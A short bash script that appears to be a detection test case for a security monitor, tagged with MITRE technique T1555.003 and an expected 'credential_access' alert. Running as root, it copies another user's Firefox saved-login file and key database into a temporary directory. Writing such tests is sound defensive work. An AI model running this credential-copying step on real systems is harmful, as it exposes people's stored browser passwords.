#!/usr/bin/env bash
# tactic: credential-access
# technique: T1555.003 Credentials from Password Stores: Credentials from Web Browsers
# behaviour: copies another user's Firefox saved logins and key database
# as: root
# expect: credential_access
set -u
for p in "$SNTL_VICTIM_HOME"/.mozilla/firefox/*/; do
  cp "$p/logins.json" "$p/key4.db" "$SNTL_TMP/" 2>/dev/null || true
done
ls -la "$SNTL_TMP"
